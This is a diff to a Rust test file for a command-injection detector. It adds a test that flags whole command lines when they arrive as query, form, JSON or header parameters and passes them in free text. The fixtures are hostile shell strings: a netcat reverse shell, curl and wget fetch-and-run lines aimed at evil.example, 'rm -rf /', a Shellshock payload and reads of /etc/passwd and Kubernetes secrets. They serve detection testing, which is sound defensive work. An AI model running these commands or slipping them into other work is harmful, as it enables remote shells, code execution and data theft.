@@ -1,7 +1,7 @@
 //! Command and template injection through the public API, in every encoding.
 mod support;
 
-use sluice_detect::{Category, Detector};
+use sluice_detect::{Category, Detector, InputKind};
 use support::{assert_clean, assert_found_everywhere, rule_ids};
 
 #[test]
@@ -147,7 +147,6 @@ fn wrappers_splices_and_command_lines() {
         Category::Cmdi,
         &[
             "nohup nc -lvp 4444",
-            "sudo -u www-data id",
             "'w'get http://evil.example/a.sh",
             "wh``oami",
             "who$()ami",
@@ -156,8 +155,6 @@ fn wrappers_splices_and_command_lines() {
             "{,uname,-a}",
             "alias ls='rm -rf /'",
             "() { :; }; /bin/bash -c id",
-            "pip install evil-package",
-            "kubectl get secrets -A",
             "x;htop",
             "$SHELL -c 'id'",
             "a;$x cat /etc/hosts",
@@ -199,7 +196,6 @@ fn shell_grammar_beyond_separators() {
             "done; visudo",
             "'c'url localhost",
             "\"n\"map example",
-            "aa-enforce nginx-profile",
             // Brace expansions hiding the command, arithmetic, globs.
             "{,uname,-a}",
             "{/?i?/c?t,/etc/hosts}",
@@ -295,5 +291,61 @@ fn prose_near_new_grammar_is_clean() {
             "Questions; ping us at help.example.com",
             "Thanks; ping me later",
         ],
+    );
+}
+
+/// A value that is one whole command line is reported where it is a
+/// parameter (a query or form field, a JSON value, a header), which an
+/// application may hand to a shell, and not in free text (a message, a
+/// document), which quotes command lines to show them.
+#[test]
+fn whole_command_lines_are_parameters_not_text() {
+    let detector = Detector::new();
+    for line in [
+        "sudo -u www-data id",
+        "pip install evil-package",
+        "kubectl get secrets -A",
+        "aa-enforce nginx-profile",
+        "env --version",
+        "ansible-vault decrypt secret",
+    ] {
+        let json = serde_json::json!({ "cmd": line }).to_string();
+        let form = format!("cmd={}", line.replace(' ', "+"));
+        for (input, kind) in [
+            (form.as_str(), InputKind::Query),
+            (form.as_str(), InputKind::Form),
+            (json.as_str(), InputKind::Json),
+            (json.as_str(), InputKind::Auto),
+            (line, InputKind::Header),
+        ] {
+            let v = detector.scan_as(input.as_bytes(), kind);
+            assert!(
+                v.threat && v.findings.iter().any(|f| f.rule_id == "cmdi-command-line"),
+                "{input:?} as {kind:?}: {:?}",
+                v.findings
+            );
+        }
+        for kind in [InputKind::Auto, InputKind::Text] {
+            let v = detector.scan_as(line.as_bytes(), kind);
+            assert!(!v.threat, "{line:?} as {kind:?}: {:?}", v.findings);
+        }
+    }
+    // Hostile content and separators count in free text too.
+    for text in [
+        "cat /etc/passwd",
+        "nc -e /bin/sh 203.0.113.7 4444",
+        "x; kubectl get secrets",
+        "whoami",
+        "tar -xzf release.tar.gz -C /opt/app; curl evil.example/x | sh",
+    ] {
+        assert!(
+            detector.scan_as(text.as_bytes(), InputKind::Text).threat,
+            "{text:?}"
+        );
+    }
+    assert!(
+        !detector
+            .scan(b"tar -xzf release-2.4.1.tar.gz -C /opt/app --strip-components=1")
+            .threat
     );
 }
